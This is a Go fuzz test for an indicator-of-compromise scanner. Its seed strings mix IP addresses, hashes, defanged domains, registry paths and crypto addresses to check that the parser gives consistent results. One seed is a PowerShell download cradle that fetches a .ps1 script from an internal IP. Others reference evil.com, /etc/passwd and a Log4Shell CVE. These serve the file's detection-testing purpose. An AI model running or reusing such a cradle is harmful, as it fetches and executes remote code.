package ioc

import "testing"

// plainSeeds is how many of the seeds have ASCII names only.
const plainSeeds = 9

var seeds = []string{
	"1.2.3.4 fe80::1%eth0 a.example.com b@example.org d41d8cd98f00b204e9800998ecf8427e",
	"(New-Object Net.WebClient).DownloadString('http://10.10.10.5:80/a.ps1');$t='/news.php'",
	`{"h":"EVIL.COM","u":"https://u:p@x.example.com:8443/a/(b)?c=d.com&e=http://f.com/g.zip#h"}`,
	"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
	"http://[::ffff:1.2.3.4]/ ::ffff:1.2.3.4 00:1a:2b:3c:4d:5e 12:34:56 1:2:3:4:5:6:7:8",
	"a.com@b.com@c.com O'Brien@evil.com x'+'y@evil.com evil.com[.]au a..b.com",
	`\r\nevil.com \nhttp://a.com\t %3Dhttps://b.com/ \u00271.2.3.4 C:\tree.com \\srv.corp.com\x`,
	"http://http://a.com/(http://b.com/x),http://c.com&quot; stratum+tcp://d.com:1/",
	"a.ws://b.com/c.d@e.com+http://f.com-1.2.3.4-https://[fe80::1]@g.com",
	"“münchen.de” http://пример.рф/ü。bob@münchen.de 访问example.com",
	"0.AC 0.AC \xeb.0.AC00.AC",
	`"C:\Program Files\a b.exe" %TEMP%\x \\srv@SSL\s\\y HKLM\Soft ware\x Computer\HKU\a \REGISTRY\A\b C:\\x\\y\z`,
	`/etc/passwd ~/.x "/tmp/a b" file:///usr/x CVE-2021-44228 attack.t1059.001 TA0002 AS15169 00-1a-2b-3c-4d-5e 001a.2b3c.4d5e`,
	"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa ja3=d41d8cd98f00b204e9800998ecf8427e",
	"hxxp[://]a[.]com (dot) b [at] c(dot)org 1[.]2{.}3[.4 C:\\a[.]b\x00C:\\c d",
	"\xff.com \xe2\x80.a.com a\u200bb.com http://\xff http://a.com/\xe2\x80",
}

func FuzzScan(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	warm := New(All)
	f.Fuzz(func(t *testing.T, text string) {
		first, second := scan(t, New(All), text), scan(t, warm, text)
		if len(first) != len(second) {
			t.Fatalf("%q: %v, then %v", text, first, second)
		}
		for i, m := range first {
			if m != second[i] {
				t.Fatalf("%q: %v, then %v", text, m, second[i])
			}
		}
		if len(text) < 1<<10 {
			checkSubsets(t, text)
		}
	})
}
